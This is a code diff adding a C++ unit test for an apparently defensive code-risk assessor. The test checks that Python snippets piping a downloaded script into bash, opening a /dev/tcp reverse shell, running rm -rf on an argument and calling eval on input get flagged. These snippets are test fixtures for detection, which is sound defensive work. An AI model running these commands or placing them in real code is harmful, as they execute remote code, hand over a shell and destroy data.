@@ -282,3 +282,20 @@ TEST(Assessor, MethodsOfLocalClasses) {
 
 }  // namespace
 }  // namespace mai::assess::test
+
+namespace mai::assess::test {
+namespace {
+
+TEST(Assessor, PartlyKnownStringsStillCarryTheirShape) {
+  auto a = py("import os, sys\nurl = sys.argv[1]\nos.system(f'curl -s {url} | bash')\n");
+  EXPECT_TRUE(has_rule(a, "DOWNLOAD-PIPE-SHELL")) << describe(a);
+  auto b = py("import os, sys\nos.system('bash -i >& /dev/tcp/%s/%d 0>&1' % (sys.argv[1], 9))\n");
+  EXPECT_EQ(b.level, RiskLevel::blocked) << describe(b);
+  auto c = py("import os, sys\nos.system('rm -rf ' + sys.argv[1])\n");
+  EXPECT_EQ(c.level, RiskLevel::medium) << describe(c);
+  auto d = py("import sys\nprint(eval('1+' + sys.argv[1]))\n");
+  EXPECT_TRUE(has_rule(d, "PY-DYNAMIC-CODE")) << describe(d);
+}
+
+}  // namespace
+}  // namespace mai::assess::test
